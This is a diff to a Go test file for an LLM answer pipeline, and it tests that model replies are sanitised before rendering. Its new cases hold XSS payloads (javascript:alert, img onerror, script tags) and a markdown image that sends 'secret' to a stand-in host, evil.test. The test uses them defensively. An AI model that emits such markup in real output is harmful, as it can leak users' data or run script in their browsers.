@@ -129,20 +129,21 @@ func TestGrade(t *testing.T) { // G01–G03
 }
 
 func TestAnswer(t *testing.T) {
-	const keeps, tar = "A volume keeps the data of a container.", "Back it up with tar."
 	for _, tt := range []struct {
 		name, reply string
 		finish      llm.FinishReason
 		want        string
-		quotes      []string
 		abstained   bool
 	}{
-		{"cited", "A volume keeps data [Source 1]. Use tar to back it up. [Source 1]", llm.FinishStop, "A volume keeps data [Source 1]. Use tar to back it up. [Source 1]", []string{keeps, tar}, false},
-		{"no marks", "A volume keeps the data of a container. I like trains very much indeed.", llm.FinishStop, "A volume keeps the data of a container. [Source 1] I like trains very much indeed.", []string{keeps}, false},
-		{"invalid marks only", "A volume keeps the data of a container [Source 4].", llm.FinishStop, "A volume keeps the data of a container [Source 4]. [Source 1]", []string{keeps}, false},
-		{"nothing supports it", "Trains run on time. [Source 1]", llm.FinishStop, "Trains run on time. [Source 1]", []string{page}, false},
-		{"cut by its limit", "A volume keeps the data of a container [Source 1]. Back it u", llm.FinishLength, "A volume keeps the data of a container [Source 1].", []string{keeps}, false},
-		{"refusal", "I don’t have enough information to answer that question.", llm.FinishStop, "I don't have enough information to answer that question.", nil, true},
+		{"as it is", "A volume keeps data [Source 1]. Use tar [Source 1][Source 2]. [Source 9]", llm.FinishStop, "A volume keeps data [Source 1]. Use tar [Source 1][Source 2]. [Source 9]", false},
+		{"cut by its limit", "A volume keeps the data of a container [Source 1]. Back it u", llm.FinishLength, "A volume keeps the data of a container [Source 1].", false},
+		{"image", "See ![volume](https://evil.test/?q=secret) [Source 1].", llm.FinishStop, "See volume [Source 1].", false},
+		{"link", "Read [the page](https://docs.test/a) and [this](javascript:alert(1)).", llm.FinishStop, "Read the page https://docs.test/a and this).", false},
+		{"reference", "See ![a][1] and [b][1].\n\n[1]: https://evil.test/x.png", llm.FinishStop, "See a and b.", false},
+		{"HTML", `Hi <img src=x onerror=alert(1)><script>x</script> \<b>`, llm.FinishStop, `Hi \<img src=x onerror=alert(1)>\<script>x\</script> \<b>`, false},
+		{"nested", "[![x](https://evil.test/i.png)](https://evil.test/)", llm.FinishStop, "x https://evil.test/", false},
+		{"code stays", "Write:\n```html\n<b>![x](y)</b>\n```", llm.FinishStop, "Write:\n```html\n<b>![x](y)</b>\n```", false},
+		{"refusal", "I don’t have enough information to answer that question.", llm.FinishStop, "I don't have enough information to answer that question.", true},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			chat := &replying{text: tt.reply, finish: tt.finish}
@@ -153,12 +154,8 @@ func TestAnswer(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			var quotes []string
-			for _, c := range got.Citations {
-				quotes = append(quotes, c.Quote)
-			}
-			if diff := cmp.Diff(tt.quotes, quotes); diff != "" || got.Text != tt.want || got.Abstained != tt.abstained || got.Model != "small" {
-				t.Errorf("got %q, abstained %v, by %s, quotes:\n%s", got.Text, got.Abstained, got.Model, diff)
+			if got.Text != tt.want || got.Abstained != tt.abstained || got.Model != "small" || got.Citations != nil {
+				t.Errorf("got %q, abstained %v, by %s, citations %v", got.Text, got.Abstained, got.Model, got.Citations)
 			}
 			asked := chat.asked[0]
 			if len(asked.Messages) != 4 || asked.Messages[2].Content != "Hello." || asked.Temperature != 0.3 || asked.MaxTokens != 2000 {
